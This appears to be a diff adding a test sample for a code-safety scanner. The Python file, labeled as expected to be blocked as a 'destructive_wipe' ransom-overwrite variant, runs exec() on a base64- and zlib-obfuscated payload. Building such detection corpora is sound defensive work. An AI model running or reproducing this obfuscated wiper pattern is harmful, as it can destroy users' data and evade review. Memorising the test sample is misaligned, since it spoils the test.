@@ -1,0 +1,3 @@
+# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/ransom_overwrite.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJw9T0FuxCAMvPOK0fYClTbqpZccKvUH1T6gKyhmg0TCyrhN8/tCQeuTPePxjJ9wsVvJ626ZzkWORDPyD/HOUaiAansgxESIG2QhLHklhJw8MfYoC8oX29Ul8nBHlUwqcF5xt7Kk6BDXe2bBRx2V8hQe69pbsXPXGJzfejcr1GKSb946oh0+8fL7+l5NGa7FaEqjVJvF8o2kgc1hauG0mfiWstOn55Pp92IYi1Ms1/aMHkSrwfw/fO2Wj4yDY7J+UMaYP9TDZ0U=')))
